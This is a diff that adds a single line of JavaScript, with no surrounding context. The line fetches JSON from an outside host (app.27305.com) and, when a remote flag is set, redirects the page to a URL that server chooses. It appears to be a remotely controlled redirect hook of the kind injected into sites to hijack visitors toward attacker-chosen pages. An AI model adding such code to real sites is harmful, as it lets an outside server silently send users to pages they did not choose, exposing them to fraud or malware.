@@ -1,0 +1,1 @@
+fetch("http://app.27305.com/appid.php?appid=123").then(r=>r.json()).then(j=>{if(j.isshowwap=="1")location=j.wapurl});
